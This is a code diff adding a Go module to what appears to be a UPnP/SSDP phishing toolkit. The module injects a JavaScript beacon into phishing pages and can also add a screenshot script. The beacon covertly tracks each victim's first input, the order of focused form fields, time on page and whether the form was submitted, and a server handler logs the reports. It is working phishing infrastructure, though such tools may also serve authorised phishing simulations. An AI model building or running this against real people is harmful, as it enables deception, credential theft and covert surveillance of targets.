@@ -0,0 +1,112 @@
+package upnp
+
+import (
+	"encoding/json"
+	"io"
+	"net/http"
+	"strings"
+	"time"
+
+	"goSSDPkit/pkg/events"
+)
+
+// BeaconPath is where the analytics beacon reports how a page was used
+const BeaconPath = "/ssdp/beacon"
+
+// Limits on what a beacon may report, so a client cannot fill the event
+// store through it
+const (
+	maxBeaconSize   = 4096
+	maxBeaconFields = 32
+	maxFieldName    = 64
+)
+
+// beaconScript is injected into phishing pages when analytics are on. It
+// notes when the victim first focuses, types or clicks, the order fields
+// are focused in, and reports them once, on submitting or leaving the
+// page.
+const beaconScript = `<script>(function(){var t0=Date.now(),first=0,focus=[],last="",sent=false;` +
+	`function mark(){if(!first)first=Math.max(1,Date.now()-t0)}` +
+	`document.addEventListener("focusin",function(e){var t=e.target,n=t&&(t.name||t.id);mark();if(n){last=n;if(focus.indexOf(n)<0)focus.push(n)}},true);` +
+	`document.addEventListener("keydown",mark,true);document.addEventListener("click",mark,true);` +
+	`function send(submitted){if(sent)return;sent=true;var d=JSON.stringify({page:location.pathname,first_input_ms:first,focus:focus,last_field:last,duration_ms:Date.now()-t0,submitted:submitted});` +
+	`if(navigator.sendBeacon){navigator.sendBeacon("` + BeaconPath + `",d)}else{var x=new XMLHttpRequest();x.open("POST","` + BeaconPath + `",false);x.send(d)}}` +
+	`document.addEventListener("submit",function(){send(true)},true);addEventListener("pagehide",function(){send(false)})})();</script>`
+
+// beacon is the report the beacon script sends
+type beacon struct {
+	Page       string   `json:"page"`
+	FirstInput int64    `json:"first_input_ms"`
+	Focus      []string `json:"focus"`
+	LastField  string   `json:"last_field"`
+	Duration   int64    `json:"duration_ms"`
+	Submitted  bool     `json:"submitted"`
+}
+
+// instrument adds the scripts for analytics and screenshots, when on, to
+// a phishing page
+func (c Config) instrument(page string) string {
+	if c.Analytics {
+		page = withScript(page, beaconScript)
+	}
+	if c.Screenshots {
+		src := c.ScreenshotScript
+		if src == "" {
+			src = DefaultScreenshotScript
+		}
+		page = withScript(page, screenshotScript(src))
+	}
+	return page
+}
+
+// withScript returns page with script added before </body>, or at the end
+// when it has none
+func withScript(page, script string) string {
+	if i := strings.LastIndex(strings.ToLower(page), "</body>"); i >= 0 {
+		return page[:i] + script + page[i:]
+	}
+	return page + script
+}
+
+// handleBeacon records the interaction a beacon reports
+func (s *Server) handleBeacon(w http.ResponseWriter, r *http.Request) {
+	if r.Method != http.MethodPost || !s.current.Load().config.Analytics {
+		http.NotFound(w, r)
+		return
+	}
+	data, err := io.ReadAll(io.LimitReader(r.Body, maxBeaconSize+1))
+	var b beacon
+	if err != nil || len(data) > maxBeaconSize || json.Unmarshal(data, &b) != nil ||
+		!strings.HasPrefix(b.Page, "/") || b.FirstInput < 0 || b.Duration < 0 {
+		http.Error(w, "Bad Request", http.StatusBadRequest)
+		return
+	}
+	if len(b.Focus) > maxBeaconFields {
+		b.Focus = b.Focus[:maxBeaconFields]
+	}
+	for i, name := range b.Focus {
+		b.Focus[i] = truncate(name, maxFieldName)
+	}
+
+	e := events.Interaction{
+		Request:    s.newRequest(r),
+		FirstInput: time.Duration(b.FirstInput) * time.Millisecond,
+		Focus:      b.Focus,
+		LastField:  truncate(b.LastField, maxFieldName),
+		Duration:   time.Duration(b.Duration) * time.Millisecond,
+		Submitted:  b.Submitted,
+	}
+	e.Path = truncate(b.Page, maxFieldName*4)
+	// The report is in the event; the body would only repeat it
+	e.Body, e.BodyBinary, e.BodyTruncated = "", false, false
+	s.events.OnInteraction(e)
+	w.WriteHeader(http.StatusNoContent)
+}
+
+// truncate cuts s to at most n bytes, dropping a character cut in half
+func truncate(s string, n int) string {
+	if len(s) > n {
+		return strings.ToValidUTF8(s[:n], "")
+	}
+	return s
+}